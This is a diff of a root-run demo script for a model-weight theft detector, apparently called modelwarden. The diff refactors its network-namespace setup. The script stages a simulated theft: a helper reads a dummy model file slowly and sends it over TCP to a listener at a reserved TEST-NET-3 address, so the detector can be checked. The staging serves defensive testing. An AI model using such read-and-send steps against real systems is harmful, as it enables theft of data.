@@ -2,14 +2,15 @@
 # A theft in three acts, on real parts: agent, collector, Prometheus. Exit 0 only if the innocent server
 # gave no finding and both thefts gave a span, a finding and an alert.
 . "$(dirname "$0")/lib.sh"
+# shellcheck source=scripts/lib/namespace.sh
+. "$(dirname "$0")/lib/namespace.sh"
 
 [ "$(id -u)" = 0 ] || fail "the demo attaches kernel probes and makes a network namespace: run it as root"
 COLLECTOR=$("$REPOSITORY/scripts/collector.sh")
 PROMETHEUS_FOLDER=$("$REPOSITORY/scripts/prometheus.sh")
 ACTS=$REPOSITORY/bpf/build/acts
 NAMESPACE=modelwarden-demo
-INSIDE=203.0.113.1   # TEST-NET-3: public addresses that belong to nobody, here in our own namespace
-OUTSIDE=203.0.113.10
+OUTSIDE=203.0.113.10 # TEST-NET-3: a public address that belongs to nobody, in a namespace of our own
 MODEL_BYTES=200000000
 THEFT_BYTES=60000000
 WORK=$(mktemp -d /tmp/modelwarden-demo.XXXXXX)
@@ -23,8 +24,7 @@ cleanup() {
   trap - EXIT INT TERM
   [ ${#PIDS[@]} = 0 ] || kill "${PIDS[@]}" 2>/dev/null || true
   wait 2>/dev/null || true
-  ip netns del "$NAMESPACE" 2>/dev/null || true
-  ip link del mwdemo0 2>/dev/null || true
+  namespace_down "$NAMESPACE"
   rm -rf "$WORK"
 }
 trap cleanup EXIT
@@ -49,14 +49,7 @@ await() { # await SECONDS WHAT COMMAND…
 }
 
 bold "Setting the stage"
-ip netns del "$NAMESPACE" 2>/dev/null || true
-ip link del mwdemo0 2>/dev/null || true
-ip netns add "$NAMESPACE"
-ip link add mwdemo0 type veth peer name mwdemo1 netns "$NAMESPACE"
-ip addr add "$INSIDE/24" dev mwdemo0
-ip link set mwdemo0 up
-ip -n "$NAMESPACE" addr add "$OUTSIDE/24" dev mwdemo1
-ip -n "$NAMESPACE" link set mwdemo1 up
+namespace_up "$NAMESPACE" || exit 1
 
 MODELS=$WORK/srv/acme-7b
 mkdir -p "$MODELS" "$WORK/out" "$WORK/data"
@@ -112,7 +105,7 @@ echo "  findings         none: that is its job"
 bold "2. An intruder reads it in small slow chunks and sends it to $OUTSIDE"
 mkfifo "$WORK/until"
 exec 9<>"$WORK/until"
-start sink ip netns exec "$NAMESPACE" "$ACTS/sink" tcp "$OUTSIDE" 4433 <&9
+start sink nsenter --net="/run/netns/$NAMESPACE" "$ACTS/sink" tcp "$OUTSIDE" 4433 <&9
 await 10 "the listener outside" grep -q '^port=' "$WORK/sink.log"
 "$ACTS/read_and_send" tcp "$MODELS/model.safetensors" "$OUTSIDE" 4433 250000 $THEFT_BYTES 30 >"$WORK/thief.log"
 echo "  what it did      $(cat "$WORK/thief.log")"
